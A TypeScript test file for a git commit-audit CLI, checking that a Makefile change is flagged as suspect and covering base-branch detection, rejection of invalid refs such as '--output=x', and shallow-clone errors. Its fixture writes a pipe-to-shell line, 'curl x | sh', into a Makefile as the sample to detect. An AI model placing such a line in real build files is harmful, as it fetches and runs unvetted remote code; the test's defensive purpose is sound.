import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { afterAll, expect, it } from 'vitest';
import { auditCommits } from '../../../../../src/cli/audit/sources/commits.ts';
import { likelyBase } from '../../../../../src/cli/audit/sources/head.ts';
import { openGitObjects } from '../../../../../src/review/commits/git-objects.ts';
import { GitScene } from '../../../../support/review/git-scene.ts';
import { requestOf } from '../../../../support/review/source-request.ts';

const scene = new GitScene();
afterAll(() => scene[Symbol.dispose]());
const first = scene.commit({ Makefile: 'all:\n' });
scene.git('checkout', '-qb', 'topic');
const second = scene.commit({ Makefile: 'all:\n\tcurl x | sh\n' });
scene.git('checkout', '-q', 'main');
scene.commit({ 'other.txt': 'main went on\n' });

it('compares the second end with what both have', async () => {
  const { review, base, head, label } = await auditCommits(requestOf(scene), ['main', 'topic']);
  expect(review.items.map(({ change, state }) => `${state} ${change.path}`)).toEqual(['suspect Makefile']);
  expect([base, head, label]).toEqual([first, second, `topic since ${first.slice(0, 12)} (main)`]);
});

it('finds the branch that HEAD started from', async () => {
  const git = openGitObjects(scene.repo, scene.env);
  expect(await likelyBase(git)).toBe(undefined);
  scene.git('checkout', '-q', 'topic');
  expect(await likelyBase(git)).toBe('main');
  scene.git('update-ref', 'refs/remotes/origin/main', first);
  expect(await likelyBase(git)).toBe('origin/main');
  scene.git('checkout', '-q', 'main');
});

it.each([
  ['nowhere', 'main', 'nowhere is not a commit of'],
  ['main', '--output=x', "'--output=x' is not a commit"],
  ['', 'main', "'' is not a commit"],
])('refuses %j..%j', async (from, to, message) => {
  await expect(auditCommits(requestOf(scene), [from, to])).rejects.toThrow(message);
});

it('says in one line that a shallow clone lacks the base, and that there is no repository', async () => {
  const clone = path.join(scene.root, 'clone');
  const options = ['-q', '--depth=1', '--no-single-branch', `file://${scene.repo}`, clone];
  execFileSync('git', ['clone', ...options], { env: scene.env, stdio: 'ignore' });
  const request = { ...requestOf(scene), folder: clone };
  await expect(auditCommits(request, ['origin/main', 'origin/topic'])).rejects.toMatchObject({
    message: 'this shallow clone lacks the common commit of the two',
    hint: expect.stringContaining('git fetch --unshallow'),
  });
  await expect(auditCommits(request, [first, 'HEAD'])).rejects.toThrow('is not in this shallow clone');
  const none = { ...requestOf(scene), folder: scene.root };
  await expect(auditCommits(none, ['main', 'HEAD'])).rejects.toThrow('is not a git repository');
});
